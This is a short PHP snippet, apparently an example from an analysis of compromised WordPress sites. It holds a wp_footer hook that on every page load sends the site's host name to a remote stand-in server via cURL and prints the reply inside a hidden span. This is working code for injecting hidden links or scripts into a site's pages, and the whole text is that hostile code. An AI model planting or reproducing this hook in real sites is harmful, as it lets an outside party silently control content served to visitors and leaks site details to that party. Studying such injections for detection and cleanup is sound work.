<?php
// The same injection in the footer, the address kept in a variable and fetched with cURL.
add_action('wp_footer', function () {
    $_u = 'http://cdn-links.example.org/f/?h=' . $_SERVER['HTTP_HOST'];
    $_c = curl_init($_u);
    curl_setopt($_c, CURLOPT_RETURNTRANSFER, 1);
    $_r = curl_exec($_c);
    if ($_r) { print '<span style="display:none">' . $_r . '</span>'; }
});
